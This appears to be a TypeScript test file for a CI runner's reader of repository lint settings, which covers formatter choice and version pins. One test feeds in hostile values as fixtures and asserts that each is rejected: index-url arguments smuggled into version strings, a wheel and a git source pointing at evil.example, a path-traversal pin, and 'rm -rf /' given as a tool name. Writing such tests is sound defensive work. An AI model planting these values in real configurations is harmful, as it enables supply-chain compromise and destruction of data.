import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ensureToolchain, type Toolchain } from '../../src/pipeline/toolchain.js';
import { ensureLintTool, PinRefused } from '../../src/stages/ensureLintTool.js';
import { type LintProfile, parseLintProfile, planLint } from '../../src/stages/lintPlan.js';
import { testLogger } from '../support/harness.js';

// The lint profile reader (python/ci_runner_lint_profile.py through ci_runner_settings.py), run by the toolchain's
// Python on a repository's files, and what the runner makes of its answer.
describe('what a repository says about its own lint', () => {
  let toolchain: Toolchain;
  let dir: string;

  before(async () => {
    toolchain = await ensureToolchain(
      'python3',
      process.env.CI_RUNNER_TEST_CACHE_DIR ?? resolve('.cache/test'),
      testLogger('profile'),
      { path: process.env.PATH ?? '', inherited: {} },
    );
    dir = await mkdtemp(join(tmpdir(), 'lint-profile-'));
  });

  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  let count = 0;
  const read = async (files: Record<string, string>): Promise<LintProfile> => {
    count += 1;
    const tree = join(dir, String(count));
    for (const [name, text] of Object.entries(files)) {
      await mkdir(dirname(join(tree, name)), { recursive: true });
      await writeFile(join(tree, name), text);
    }
    await mkdir(tree, { recursive: true });
    const script = join(toolchain.pluginDir, 'ci_runner_settings.py');
    const out = execFileSync(toolchain.python, [script], { cwd: tree }).toString();
    return parseLintProfile(JSON.parse(out).lint);
  };
  const hooks = (url: string, rev: string, ...ids: string[]) =>
    `repos:\n  - repo: ${url}\n    rev: ${rev}\n    hooks:\n${ids.map((id) => `      - id: ${id}\n`).join('')}`;

  test('nothing declared: black, the runner versions, ruff unconfigured', async () => {
    const profile = await read({});
    assert.deepEqual(profile, {
      formatter: { tool: 'black', reason: "the runner's default: the repository names no formatter" },
      pins: {},
      notes: [],
      ruffConfigured: false,
    });
    const plan = planLint(profile, undefined, { ruff: '0.17.5', black: '26.10.1' });
    assert.deepEqual(plan.black, { version: '26.10.1', source: "the runner's own", pinned: false });
  });

  test('pre-commit: a tag, a frozen sha, the ruff-format hook first; black hooks and [tool.black]', async () => {
    const frozen = await read({
      '.pre-commit-config.yaml': hooks(
        'https://github.com/astral-sh/ruff-pre-commit',
        'c60c980e561ed3e73101667fe8365c609d19a438  # frozen: v0.15.9',
        'ruff',
        'ruff-format',
      ),
      'pyproject.toml': '[tool.black]\nline-length = 90\n',
    });
    assert.deepEqual(frozen.formatter, { tool: 'ruff', reason: 'pre-commit hook ruff-format' });
    assert.deepEqual(frozen.pins.ruff, {
      version: '0.15.9',
      source: '.pre-commit-config.yaml (rev c60c980e561e… # frozen: v0.15.9)',
    });
    const black = await read({
      '.pre-commit-config.yaml': hooks('https://github.com/psf/black-pre-commit-mirror', '25.9.0', 'black'),
    });
    assert.deepEqual(black.formatter, { tool: 'black', reason: 'pre-commit hook black' });
    assert.deepEqual(black.pins.black, { version: '25.9.0', source: '.pre-commit-config.yaml (rev 25.9.0)' });
    const table = await read({ 'pyproject.toml': '[tool.black]\n' });
    assert.deepEqual(table.formatter, { tool: 'black', reason: '[tool.black] in pyproject.toml' });
    const ruffToml = await read({ '.ruff.toml': '[format]\nquote-style = "single"\n' });
    assert.deepEqual(ruffToml.formatter, { tool: 'ruff', reason: '[format] in .ruff.toml' });
    assert.equal(ruffToml.ruffConfigured, true);
  });

  test('exact pins of the development requirements; the pre-commit rev wins', async () => {
    const groups = await read({
      'pyproject.toml':
        '[dependency-groups]\nlint = ["ruff==0.15.6", "black[jupyter] == 25.1.0 ; python_version > \'3\'"]\n',
    });
    assert.equal(groups.pins.ruff?.version, '0.15.6');
    assert.equal(groups.pins.black?.version, '25.1.0');
    assert.match(groups.pins.ruff?.source ?? '', /^pyproject\.toml \[dependency-groups\] lint/);
    const extras = await read({
      'pyproject.toml': '[project]\nname = "x"\n[project.optional-dependencies]\ndev = ["ruff==0.14.0"]\n',
    });
    assert.equal(extras.pins.ruff?.version, '0.14.0');
    const file = await read({ 'requirements-lint.txt': 'black==24.8.0  # formatter\nruff>=0.5\n' });
    assert.deepEqual(file.pins.black, { version: '24.8.0', source: 'requirements-lint.txt (black==24.8.0)' });
    assert.equal(file.pins.ruff, undefined);
    const both = await read({
      '.pre-commit-config.yaml': hooks('https://github.com/astral-sh/ruff-pre-commit', 'v0.15.9', 'ruff'),
      'requirements-dev.txt': 'ruff==0.12.0\n',
    });
    assert.equal(both.pins.ruff?.version, '0.15.9');
  });

  test('what a hostile repository writes pins nothing the runner would install', async () => {
    const profile = await read({
      '.pre-commit-config.yaml': hooks(
        'https://github.com/astral-sh/ruff-pre-commit',
        '"v0.15.9 --index-url http://evil.example/"',
        'ruff-format',
      ),
      'pyproject.toml': [
        '[dependency-groups]',
        'a = ["black @ https://evil.example/black.whl", "black==24.1.0 --extra-index-url=http://evil.example"]',
        'b = ["black==../../etc", "black===24.1.0", "black==24.*", "evil==1.0", "ruff==v9"]',
      ].join('\n'),
      'requirements-dev.txt': '-e git+https://evil.example/ruff#egg=ruff\n--index-url http://evil.example\n',
    });
    assert.deepEqual(profile.pins, {});
    assert.ok(profile.notes.some((note) => note.includes('not an exact version')));
    // And what reaches the runner is checked again, whatever the reader said.
    const forged = parseLintProfile({
      formatter: { tool: 'rm -rf /', reason: 'x' },
      pins: { ruff: { version: '0.1 --index-url x', source: 's' }, pip: { version: '1.0', source: 's' } },
      notes: 'not a list',
    });
    assert.deepEqual(forged.pins, {});
    assert.equal(forged.formatter.tool, 'black');
    await assert.rejects(ensureLintTool(toolchain, 'ruff', '0.1 --index-url x'), PinRefused);
    await assert.rejects(
      ensureLintTool(toolchain, 'black', '21.12b0'),
      /older than the oldest the runner runs/,
    );
  });

  test('a broken pre-commit file is noted and read as absent', async () => {
    const profile = await read({ '.pre-commit-config.yaml': 'repos: [\n' });
    assert.equal(profile.formatter.tool, 'black');
    assert.match(profile.notes[0] ?? '', /^\.pre-commit-config\.yaml is not valid YAML/);
  });

  test('[tool.ci-runner] formatter overrides what the files say', () => {
    const profile = parseLintProfile({ formatter: { tool: 'ruff', reason: 'pre-commit hook ruff-format' } });
    const plan = planLint(profile, 'none', { ruff: '0.17.5', black: '26.10.1' });
    assert.deepEqual(plan.formatter, { tool: 'none', reason: '[tool.ci-runner] formatter' });
    assert.equal(plan.black, undefined);
  });
});
